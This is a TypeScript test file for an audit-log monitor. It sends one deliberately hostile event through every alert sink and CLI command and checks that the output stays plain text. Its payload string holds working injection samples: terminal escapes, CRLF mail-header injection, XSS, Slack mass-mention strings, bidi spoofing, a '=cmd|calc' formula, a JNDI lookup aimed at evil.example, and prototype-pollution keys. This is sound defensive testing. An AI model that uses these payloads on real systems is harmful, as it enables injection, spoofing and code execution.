import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createScope } from '../../src/base/scope.ts';
import { VENDORS } from '../sinks/vendors.ts';
import { type Ran, runHere } from '../support/command.ts';
import { type InProcess, runInProcess } from '../support/in-process.ts';
import { installationIn, receiverIn } from '../support/in-scope.ts';
import type { Installation } from '../support/installation.ts';
import type { Receiver } from '../support/receiver.ts';
import { createSmtpServer, type SmtpTestServer } from '../support/smtp-server.ts';
import { createStreamSyslog, type SyslogServer } from '../support/syslog-server.ts';

/*
 * One event that is hostile in every field goes through the real monitor into every kind of sink and every preset, and
 * is then looked at by every command. Whoever chooses the content of an event (a person who signs up with a crafted
 * address is enough) gets text, never more than text.
 */

const EVIL = [
  '\u001b]0;owned\u0007\u001b[2J\u001b[31m\u009b31m', // terminals
  '\r\nBcc: mallory@evil.example\r\nX-Evil: 1\r\n\r\n', // headers of mails and requests
  '{"level":"info","event":"monitor.stopped"}\n', // lines of the log
  '<script>alert(1)</script><img src=x onerror=alert(1)>"\'><a href="javascript:alert(1)">', // pages
  '<!channel> <!here> <@U012AB3CD> @everyone @here @channel @all <users/all> <at>everyone</at>', // mentions
  '[click](https://evil.example) <https://evil.example|click> *bold* `code`', // links
  '\u202egnp.exe\u202c \u2066 \ufeff \u0000 \ud83d', // texts that read as others
  '=cmd|calc ${jndi:ldap://evil.example} {rule.title} %s', // templates and formulas
].join(' ');

const text = JSON.stringify(EVIL);
/** No longer than an id may be. */
const ID = EVIL.slice(0, 190);
const EVENT = `{"id":${JSON.stringify(ID)},"event_type":"APP_CREATE","event_type_description":${text},"created_at":"AT","account_id":${text},"user_email":${text},"user_id":${text},"source":${text},"source_description":${text},"source_ip":${text},"source_country":${text},"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"context":{"__proto__":{"polluted":true},"toString":${text},${text}:${text},"appId":${text},"nested":{"hasOwnProperty":${text}}},${text}:${text}}`;

const RULE = `title: Hostile
logsource: {product: vonage, service: audit}
detection:
  selection: {event_type: [APP_CREATE]}
  condition: selection
level: high
fields: [user_email, source_ip, context.appId]
monitor:
  message: 'By {user_email} from {source_ip}: {context.appId} {context.toString} {constructor} {__proto__.polluted}'
`;

const scope = createScope();
let installation: Installation;
let vendors: Readonly<Record<string, Receiver>>;
let hook: Receiver;
let slack: Receiver;
let mails: SmtpTestServer;
let syslog: SyslogServer;
let monitor: InProcess;
let done: boolean;

beforeAll(async () => {
  const api = await receiverIn(scope);
  const event = EVENT.replace('"AT"', `"${new Date(Date.now() - 2_000).toISOString().slice(0, 19)}"`);
  api.answer({
    body: `{"_embedded":{"events":[${event}]},"page":{"totalElements":1,"totalPages":1,"number":1,"size":100}}`,
  });
  const receiver = async (): Promise<Receiver> => {
    const made = await receiverIn(scope);
    return made;
  };
  vendors = Object.fromEntries(
    await Promise.all(Object.keys(VENDORS).map(async (name) => [name, await receiver()] as const)),
  );
  for (const [name, made] of Object.entries(vendors)) made.answer(VENDORS[name]?.taken ?? {});
  [hook, slack] = [await receiver(), await receiver()];
  slack.answer({ body: 'ok' });
  mails = await createSmtpServer({ tls: 'none' });
  scope.defer('mails', () => mails.close());
  syslog = await createStreamSyslog();
  scope.defer('syslog', () => syslog.close());
  const presets = Object.entries(vendors).map(
    ([name, made]) => [name, { type: name, ...VENDORS[name]?.options(made.url) }] as const,
  );
  const sinks = {
    console: { type: 'log' },
    hook: { type: 'webhook', url: hook.url, headers: { 'x-own': 'one' } },
    cloud: { type: 'webhook', url: `${hook.url}/cloud`, format: 'cloudevents' },
    ecs: { type: 'webhook', url: `${hook.url}/ecs`, format: 'ecs' },
    ocsf: { type: 'webhook', url: `${hook.url}/ocsf`, format: 'ocsf' },
    slack: { type: 'slack', url: `${slack.url}/services/T0/B0/token` },
    mail: {
      type: 'email',
      url: `smtp://127.0.0.1:${mails.port}`,
      from: 'monitor@example.com',
      to: ['oncall@example.com'],
    },
    syslog: { type: 'syslog', url: syslog.url },
    ...Object.fromEntries(presets),
  };
  installation = installationIn(scope, api.url, { sinks });
  const file = { type: 'file', path: join(installation.folder, 'alerts.ndjson') };
  const archive = { type: 'file', path: join(installation.folder, 'events.ndjson') };
  installation.configure({
    sinks: { ...sinks, file, archive },
    routes: [
      { match: { kind: 'event' }, to: ['archive', 'ecs', 'ocsf', 'syslog'], from: 'start' },
      { match: { kind: 'rule' }, to: [...Object.keys(sinks), 'file'] },
      { to: ['console'] },
    ],
    log: { level: 'debug' },
  });
  installation.rule('hostile.yml', RULE);
  writeFileSync(join(installation.folder, 'event.json'), event);
  monitor = await runInProcess(installation.config, 'once');
  done = await monitor.done;
}, 60_000);
afterAll(() => scope.close());

// oxlint-disable-next-line eslint/no-control-regex -- these are the characters it is about
const STEERING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

it('is told everywhere, and nothing fails on it', () => {
  expect(done).toBe(true);
  expect(monitor.lines.filter(({ level }) => level === 'error')).toEqual([]);
});

/** What a receiver would act upon, by how it reads a text. */
const PINGED = /(?<![\p{L}\p{N}\\])@(everyone|here|channel|all)\b/u;
const ACTIVE = {
  plain: [PINGED],
  html: [PINGED, /<(script|img|at|users)\b/i],
  markdown: [PINGED, /(?<!\\)<(at>|users\/|!)|\]\(https:\/\/evil/],
};

it('pollutes no prototype', () => {
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
});

it('is kept word for word', () => {
  const [line = ''] = readFileSync(join(installation.folder, 'events.ndjson'), 'utf8').split('\n');
  expect(line).toContain('"__proto__":');
  expect(JSON.parse(line)).toBeTypeOf('object');
});

describe('sinks', () => {
  it('log: one line each, none of them forged', () => {
    for (const line of monitor.lines) expect(line.event).toMatch(/^[a-z_.]+$/);
    expect(monitor.lines.filter(({ event }) => event === 'monitor.stopped')).toHaveLength(1);
    expect(monitor.lines.filter(({ event }) => event === 'alert')).toHaveLength(1);
  });

  it('webhook, in every format: JSON that holds it, and no header of its making', () => {
    const paths = hook.requests.map(({ path }) => path);
    expect(paths).toEqual(expect.arrayContaining(['/', '/cloud', '/ecs', '/ocsf']));
    for (const request of hook.requests) {
      expect(JSON.parse(request.body)).toBeTypeOf('object');
      expect(request.headers).not.toHaveProperty('x-evil');
      expect(request.headers).not.toHaveProperty('bcc');
    }
  });

  it('slack: nobody is pinged, nothing is linked', () => {
    const said = slack.requests.map(({ body }) => body).join('\n');
    expect(said).toContain('&lt;!channel&gt;');
    expect(said).not.toMatch(/<!(channel|here|everyone)|<@U|<https:\/\/evil/);
  });

  it('email: no header, no markup, one line of subject', () => {
    const [mail] = mails.mails;
    expect(mail?.to).toEqual(['oncall@example.com']);
    expect([...(mail?.parsed.headers.keys() ?? [])]).not.toEqual(
      expect.arrayContaining([expect.stringMatching(/^(bcc|x-evil)$/)]),
    );
    expect(mail?.parsed.subject).not.toMatch(STEERING);
    const html = String(mail?.parsed.html);
    expect(html).not.toMatch(/<script|<img|<a [^>]*(javascript:|evil)|onerror=alert\(1\)>/i);
    expect(mail?.parsed.text).not.toMatch(STEERING);
  });

  it('syslog: one message for each alert and event, nothing torn', () => {
    expect(syslog.faults).toEqual([]);
    expect(syslog.messages).toHaveLength(2);
    for (const { raw } of syslog.messages) expect(raw.toString('latin1')).not.toMatch(/[\r\n]/);
  });

  it('file: one line for each', () => {
    for (const name of ['alerts.ndjson', 'events.ndjson']) {
      const lines = readFileSync(join(installation.folder, name), 'utf8').trimEnd().split('\n');
      expect(lines).toHaveLength(1);
      expect(JSON.parse(lines[0] ?? '')).toBeTypeOf('object');
    }
  });

  it.each(Object.entries(VENDORS))('preset %s: taken, and only text', (name, vendor) => {
    const requests = vendors[name]?.requests ?? [];
    expect(requests).toHaveLength(1);
    for (const request of requests) {
      expect(vendor.faults(request)).toEqual([]);
      expect(request.headers).not.toHaveProperty('x-evil');
      for (const { kind, text: said } of vendor.markup(request)) {
        for (const act of ACTIVE[kind]) expect(said).not.toMatch(act);
      }
    }
  });
});

describe('commands', () => {
  const command = (...args: readonly string[]): Promise<Ran> =>
    runHere([...args, '--config', installation.config]);
  /** Nothing that steers a terminal, and JSON where that was asked for, as a whole or by lines. */
  const expectTame = ({ stdout, stderr }: Ran, json = false): void => {
    // Records of a table for spreadsheets end with CR LF.
    expect(stdout.replaceAll('\r\n', '\n')).not.toMatch(STEERING);
    expect(stderr).not.toMatch(STEERING);
    const values = stdout.startsWith('[') ? [stdout] : stdout.split('\n').filter((line) => line !== '');
    expect(() => values.map((value) => (json ? JSON.parse(value) : value))).not.toThrow();
  };
  const alertId = (): string =>
    String(monitor.lines.find(({ event }) => event === 'alert.decided')?.['alert_id']);

  it.each([
    ['deliveries list', ['deliveries', 'list']],
    ['deliveries list --json', ['deliveries', 'list', '--json']],
    ['deliveries parked', ['deliveries', 'parked']],
    ['feeds', ['feeds']],
    ['status', ['status', '--all']],
    ['status --json', ['status', '--json']],
    ['accounts', ['accounts']],
    ['alerts list', ['alerts', 'list']],
    ['alerts list --json', ['alerts', 'list', '--json']],
    ['alerts list as a table for spreadsheets', ['alerts', 'list', '--output', 'csv']],
    ['events list', ['events', 'list']],
    ['events list --json', ['events', 'list', '--json']],
    ['events list of the API', ['events', 'list', '--source', 'api']],
    ['events list of the API --json', ['events', 'list', '--source', 'api', '--json']],
    ['events get', ['events', 'get', ID]],
    ['events get --json', ['events', 'get', ID, '--json']],
    ['events types', ['events', 'types', '--source', 'local']],
    ['events tail', ['events', 'tail', '--since', '1d', '--alerts', '--full']],
    ['events tail --json', ['events', 'tail', '--since', '1d', '--alerts', '--json']],
    ['state show', ['state', 'show']],
    ['state export --json', ['state', 'export', '--json']],
    ['config show', ['config', 'show']],
    ['config show --json', ['config', 'show', '--json']],
    ['an event that is none', ['events', 'get', EVIL]],
    ['a filter that is none', ['events', 'tail', '--filter', `${EVIL}=x`]],
    ['an account that is none', ['events', 'list', '--account', EVIL]],
    ['rules list', ['rules', 'list', '--days', '9']],
    ['rules backtest', ['rules', 'backtest', '--from', '1d']],
    ['rules backtest --json', ['rules', 'backtest', '--from', '1d', '--json']],
    ['routes test of the stored event', ['routes', 'test', '--event', ID]],
    ['check', ['check']],
    ['deliveries of a sink that is none', ['deliveries', 'list', '--sink', EVIL]],
    ['a story of an alert that is none', ['deliveries', 'show', EVIL]],
    ['a rule that is none', ['rules', 'explain', EVIL]],
    ['an option that is none', ['feeds', `--${EVIL}`]],
    ['a command that is none', [EVIL]],
    ['a silence that hides nothing it could', ['silences', 'expire', EVIL]],
    ['a time that is none', ['silences', 'add', '--for', EVIL, '--match', 'rule=x']],
    ['a matcher that is none', ['silences', 'add', '--for', '1h', '--match', EVIL]],
    ['a sink to test that is none', ['sinks', 'test', EVIL]],
  ])('%s', async (name, args) => {
    expectTame(await command(...args), name.endsWith('--json'));
  });

  it('deliveries show, of the alert', async () => {
    const story = await command('deliveries', 'show', alertId());
    expect(story.code).toBe(0);
    expect(story.stdout).toContain('owned');
    expectTame(story);
    expectTame(await command('deliveries', 'show', alertId(), '--json'), true);
  });

  it.each([['--event'], ['--alert']])('routes test %s', async (option) => {
    const what = option === '--event' ? join(installation.folder, 'event.json') : alertId();
    const told = await command('routes', 'test', option, what);
    expect(told.code).toBe(0);
    expectTame(told);
    expectTame(await command('routes', 'test', option, what, '--json'), true);
  });

  it('rules explain, with the event', async () => {
    const told = await command(
      'rules',
      'explain',
      'Hostile',
      '--event',
      join(installation.folder, 'event.json'),
    );
    expect(told.code).toBe(0);
    expectTame(told);
    expectTame(
      await command(
        'rules',
        'explain',
        'Hostile',
        '--event',
        join(installation.folder, 'event.json'),
        '--json',
      ),
      true,
    );
  });

  it('silences, of what an event says and by whoever', async () => {
    const added = await command(
      'silences',
      'add',
      '--for',
      '1h',
      '--match',
      `user_email=${EVIL}`,
      '--author',
      EVIL,
      '--reason',
      EVIL,
    );
    expectTame(added);
    expectTame(await command('silences', 'list'));
    expectTame(await command('silences', 'list', '--json'), true);
    expectTame(await command('silences', 'expire', added.stdout.trim(), '--author', EVIL));
  });

  it('check, of a configuration that somebody else has written', async () => {
    const config = join(installation.folder, 'evil.yml');
    for (const text of [
      `accounts: [{ name: ${JSON.stringify(EVIL)}, api_key: k, api_secret: s }]\n`,
      `${JSON.stringify(EVIL)}: 1\n`,
      `accounts: []\nsinks: { ${JSON.stringify(EVIL)}: { type: ${JSON.stringify(EVIL)}, ${JSON.stringify(EVIL)}: 1 } }\n`,
      `accounts: []\nrules: [${JSON.stringify(EVIL.slice(0, 60))}]\n`,
      `accounts: !${EVIL.replaceAll(/\s/g, '')} x\n`,
    ]) {
      writeFileSync(config, text);
      expectTame(await runHere(['check', '--config', config]));
    }
  });

  it('rules check, of a rule that somebody else has written', async () => {
    const path = join(installation.folder, 'evil-rule.yml');
    for (const text of [
      RULE.replace('Hostile', JSON.stringify(EVIL)).replace(
        'condition: selection',
        `condition: ${JSON.stringify(EVIL)}`,
      ),
      RULE.replace('fields:', `${JSON.stringify(EVIL)}: 1\nfields:`),
      RULE.replace(
        '{event_type: [APP_CREATE]}',
        `{${JSON.stringify(`user_email|${EVIL}`)}: ${JSON.stringify(EVIL)}}`,
      ),
      RULE.replace(
        '{event_type: [APP_CREATE]}',
        `{${JSON.stringify(EVIL)}: ${JSON.stringify(EVIL)}}`,
      ).replace('Hostile', JSON.stringify(EVIL)),
    ]) {
      writeFileSync(path, text);
      for (const format of ['text', 'json', 'github', 'sarif'])
        expectTame(await command('rules', 'check', path, '--output', format));
      expectTame(await command('rules', 'list', path));
      expectTame(await command('rules', 'test', path));
      expectTame(await command('rules', 'explain', path));
    }
  });
});
